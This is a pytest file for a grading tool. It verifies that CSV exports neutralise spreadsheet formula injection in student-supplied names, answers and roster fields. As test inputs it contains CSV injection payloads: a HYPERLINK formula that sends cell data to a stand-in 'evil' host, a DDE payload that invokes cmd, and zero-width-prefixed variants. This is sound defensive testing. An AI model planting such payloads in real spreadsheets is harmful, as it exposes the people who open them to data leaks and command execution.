"""CSV injection: no cell of a CSV file the grader writes can start a spreadsheet formula.

Student-controlled text (free-text answers, roster names and sections, folder names, feedback) that a
spreadsheet would run (``=HYPERLINK("http://evil/?"&A1,"click")``) is written with a leading ``'`` (OWASP);
numbers stay numbers; the identifiers an LMS matches students by are written as they are, or refused; and
the manual-grades round trip still works. Only the written problems are graded here: no student code runs.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

import grader
from conftest import ASSIGNMENT
from grader import cli
from grader.answers.questions import PENDING_PREFIX
from grader.api import FREE_TEXT, MANUAL_GRADES, grade_batch
from grader.export import DEFAULT_FILES, ExportError, export
from grader.models import CheckResult, ProblemResult, Status, SubmissionResult, Visibility
from grader.output.gradescope import write_results_json
from grader.output.inert_csv import formula_start, inert_cell
from grader.output.scores_csv import write_scores_csv

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
HIDDEN = "\u200b=1+1"  # a zero-width space in front, which a spreadsheet may drop
RAE, BLOG = "regularized-ae", "resnet-blog"
TITLE = "HW 1"
H = Visibility.HIDDEN

#: an oracle independent of grader.output.inert_csv: a cell a spreadsheet could read as a formula
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", re.ASCII)
_TRIMMED = " \t\r\n\u00a0\u200b\ufeff"


def runnable(cell: str) -> bool:
    if _NUMBER.fullmatch(cell):
        return False
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip(_TRIMMED)[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_inert(path: Path) -> list[list[str]]:
    rows = read_rows(path)
    bad = [(i, cell) for i, row in enumerate(rows) for cell in row if runnable(cell)]
    assert bad == [], f"{path.name}: cells a spreadsheet would run: {bad}"
    return rows


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("text", [
    HYPERLINK, DDE, "+1+1", "-2+3", "-cmd", "@SUM(A1)", "\tx", "\rx", "\n=1", " =1+1", "\u00a0\u00a0=1",
    HIDDEN, "\ufeff@x", "\u200e-1+1", "\uff1dHYPERLINK(1)", " -", "-", "-inf", "+1,5", "--1",
])
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert formula_start(text) is not None
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "", "alice", "Liddell, Alice", "    Points Possible", "1 + 1 = 2", "a\n=1+1", "'=already text",
    "\"=quoted\"", "0", "11.5", "-1.5", "+2", "-0", "1e+06", ".5", "-3.", "regularized-ae: 1/2 (slips: sign)",
])
def test_plain_text_and_numbers_are_unchanged(text):
    assert formula_start(text) is None
    assert inert_cell(text) == text


@pytest.mark.parametrize("value", [-1.5, 3, 0.0, None])
def test_non_text_cells_are_written_as_they_are(value):
    assert inert_cell(value) is value


# --------------------------------------------------------------------------- every writer, one rule


#: CSV writers not yet going through grader.output.inert_csv (owned elsewhere): canvas-roster.csv holds Canvas
#: user ids, name slugs and file names, which start with a letter or digit today; switch it and empty this set
NOT_YET_INERT: set[str] = set()


def test_every_csv_writer_goes_through_inert_csv():
    root = Path(grader.__file__).parent
    raw = {str(path.relative_to(root)) for path in root.rglob("*.py")
           if re.search(r"(?<![\w.])csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    assert raw - {"output/inert_csv.py"} == NOT_YET_INERT


# --------------------------------------------------------------------------- scores.csv and exports


def _result(student: str, score: float, diagnosis: str | None = None) -> SubmissionResult:
    one, two = ProblemResult("p1", "One"), ProblemResult("p2", "Two")
    one.checks.append(CheckResult("p1", "c0", "case", H, Status.FAILED, score, 5.0, "", diagnosis))
    two.checks.append(CheckResult("p2", "q0", None, H, Status.PENDING, 0.0, 4.0, PENDING_PREFIX + HYPERLINK,
                                  "manual", kind="question"))
    return SubmissionResult(student, [one, two])


@pytest.fixture
def out(tmp_path):
    """A grade output folder with alice, bob (a negative score, which stays a number) and carol."""
    results = [_result("alice", 5), _result("bob", -1.5, "sign"), _result("carol", 0)]
    folder = tmp_path / "out"
    for r in results:
        write_results_json(r, folder / "students" / r.student / "results.json")
    write_scores_csv(results, folder / "scores.csv")
    return folder


HOSTILE_CANVAS = ("Student,ID,SIS User ID,SIS Login ID,Section\n"
                  "    Points Possible,,,,\n"
                  f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",1,S1,alice,"{DDE}"\n'
                  "-2+3,2,S2,bob,+Sec B\n"
                  "\u200b=1+1,4,S4,dave,Sec A\n")  # dave: on the roster, no submission


def _roster(tmp_path, text: str) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_scores_csv_quotes_a_hostile_student_and_keeps_numbers(tmp_path):
    path = tmp_path / "scores.csv"
    write_scores_csv([_result(HYPERLINK, -1.5)], path)  # a folder name collect() would refuse: defence in depth
    rows = assert_inert(path)
    assert rows[1] == ["'" + HYPERLINK, "p1", "-1.5", "5", "0", "1", "0", "0"]
    assert rows[2][:4] == ["'" + HYPERLINK, "p2", "0", "4"]


def test_canvas_import_names_and_sections_are_inert_and_keys_unchanged(out, tmp_path):
    result = export(out, "canvas", title=TITLE, roster=_roster(tmp_path, HOSTILE_CANVAS), per_problem=True)
    rows = assert_inert(result.write(out / DEFAULT_FILES["canvas"]))
    assert rows[1] == ["    Points Possible", "", "", "", "", "9", "5", "4"]
    assert rows[2] == ["'" + HYPERLINK, "1", "S1", "alice", "'" + DDE, "5", "5", "0"]
    assert rows[3] == ["'-2+3", "2", "S2", "bob", "'+Sec B", "-1.5", "-1.5", "0"]  # a negative total: a number
    assert rows[4] == ["'\u200b=1+1", "4", "S4", "dave", "Sec A", "", "", ""]
    assert rows[5] == ["carol", "", "", "carol", "", "0", "0", "0"]


def test_wide_csv_is_inert(out, tmp_path):
    roster = _roster(tmp_path, HOSTILE_CANVAS.replace("S4,dave", "S4,=1+1"))  # an unmatched key: a plain cell here
    rows = assert_inert(export(out, "csv", title="", roster=roster).write(out / DEFAULT_FILES["csv"]))
    assert rows[1:] == [["alice", "5", "0", "5", "9"], ["bob", "-1.5", "0", "-1.5", "9"], ["'=1+1", "", "", "", "9"],
                        ["carol", "0", "0", "0", "9"]]


def test_moodle_feedback_and_wide_headers_are_inert(tmp_path):
    """A scores.csv written by hand or by another tool, with ids the grader never writes: the exports stay inert."""
    out = tmp_path / "out"
    out.mkdir()
    scores = [["student", "problem", "score", "max_score"], ["alice", "-p1", "-1", "2"], ["alice", "=p2", "1", "2"]]
    with open(out / "scores.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(scores)
    roster = _roster(tmp_path, "First name,Email address,ID number\n=cmd,alice@uni.example,alice\n")
    rows = assert_inert(export(out, "moodle", title=TITLE, roster=roster).write(out / "m.csv"))
    assert rows[1] == ["alice@uni.example", "0", "'-p1: -1/2; =p2: 1/2"]
    with open(out / "scores.csv", "a", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerow(["@bob", "=p2", "1", "2"])
    wide = assert_inert(export(out, "csv", title="").write(out / "w.csv"))
    assert wide == [["student", "'-p1", "'=p2", "total", "max_score"], ["'@bob", "", "1", "1", "4"],
                    ["alice", "-1", "1", "0", "4"]]


def test_moodle_import_is_inert_and_keeps_numbers(out, tmp_path):
    roster = _roster(tmp_path, f'First name,Last name,ID number,Email address\n"{DDE}",-x,alice,alice@uni.example\n')
    rows = assert_inert(export(out, "moodle", title="=title", roster=roster).write(out / DEFAULT_FILES["moodle"]))
    assert rows[0] == ["Email address", "'=title", "Feedback"]
    assert rows[1] == ["alice@uni.example", "5", "p1: 5/5; p2: 0/4 (1 written answer(s) awaiting manual grading)"]
    assert rows[2][:2] == ["bob", "-1.5"]  # not on the roster: its folder name; a negative grade stays a number


@pytest.mark.parametrize("fmt, roster, column", [
    ("canvas", "Student,ID,SIS User ID,SIS Login ID\nAlice,1,-2+3,alice\n", "SIS User ID"),
    ("canvas", f"Student,ID,SIS Login ID\nDave,4,{HIDDEN}\n", "SIS Login ID"),  # no submission: still its key
    ("moodle", "First name,ID number,Email address\nAlice,alice,=cmd@uni.example\n", "Email address"),
])
def test_an_identifier_that_could_run_is_refused_not_quoted(out, tmp_path, capsys, fmt, roster, column):
    path = _roster(tmp_path, roster)
    with pytest.raises(ExportError, match=f"roster.csv:2 .*: {column} '.*' starts with"):
        export(out, fmt, title=TITLE, roster=path)
    target = tmp_path / "import.csv"
    code = cli.main(["export", str(out), "--format", fmt, "--roster", str(path), "--title", TITLE,
                     "--out", str(target)])
    err = capsys.readouterr().err
    assert code == 2 and "matches students by could run as a formula" in err and "fix the roster" in err
    assert not target.exists()


# --------------------------------------------------------------------------- graded: free-text.csv round trip


def test_free_text_csv_is_inert_and_the_manual_round_trip_still_works(tmp_path):
    subs = tmp_path / "subs"
    (subs / "mallory").mkdir(parents=True)
    (subs / "mallory" / "answers.yaml").write_text(
        f"{RAE}:\n  argument: '{HYPERLINK}'\n{BLOG}:\n  learned: \"{DDE}\"\n  favourite_approach: \"{HIDDEN}\"\n",
        encoding="utf-8")
    out = tmp_path / "out"
    first = grade_batch(subs, ASSIGNMENT, out, problems=[RAE, BLOG])
    assert first.warnings == []
    rows = assert_inert(out / FREE_TEXT)
    assert rows[0] == ["student", "problem", "question", "points", "comment", "answer"]
    listed = {(r[0], r[1], r[2]): r for r in rows[1:]}
    assert listed["mallory", RAE, "argument"][5] == "'" + HYPERLINK  # still readable
    assert listed["mallory", BLOG, "learned"][5] == "'" + DDE
    assert listed["mallory", BLOG, "favourite_approach"][5] == "'" + HIDDEN
    assert_inert(out / "scores.csv")

    # staff fill in points: one row kept as written (the quote in the answer), one as a spreadsheet may save
    # it (the quote dropped), and one whose answer cell was edited; the answer column is never read back
    graded = {(RAE, "argument"): ("3", "ok", listed["mallory", RAE, "argument"][5]),
              (BLOG, "learned"): ("1", "", DDE),
              (BLOG, "favourite_approach"): ("", "", "something else")}
    with open(out / MANUAL_GRADES, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(rows[0])
        for (student, problem, question), row in listed.items():
            points, comment, answer = graded[problem, question]
            writer.writerow([student, problem, question, points, comment, answer])

    second = grade_batch(subs, ASSIGNMENT, out, problems=[RAE, BLOG])
    assert second.warnings == []
    got = {(c.problem, c.check): c for p in second.results[0].problems for c in p.checks if c.kind == "question"}
    argument, learned = got[RAE, "argument"], got[BLOG, "learned"]
    assert (argument.status, argument.score) == (Status.PASSED, 3)
    assert argument.feedback == f"graded by hand: 3 / 3. ok\nYour answer: {HYPERLINK}"  # the stored answer, no quote
    assert (learned.status, learned.score) == (Status.FAILED, 1)
    assert learned.feedback.endswith(f"\nYour answer: {DDE}")
    assert got[BLOG, "favourite_approach"].status is Status.PENDING
    assert got[BLOG, "favourite_approach"].feedback == PENDING_PREFIX + HIDDEN  # not the edited cell
    assert [r[1:3] + r[5:] for r in assert_inert(out / FREE_TEXT)[1:]] == [[BLOG, "favourite_approach", "'" + HIDDEN]]
    scores = {r[1]: r[2] for r in assert_inert(out / "scores.csv")[1:]}
    assert scores[RAE] == "3" and scores[BLOG] == "1"
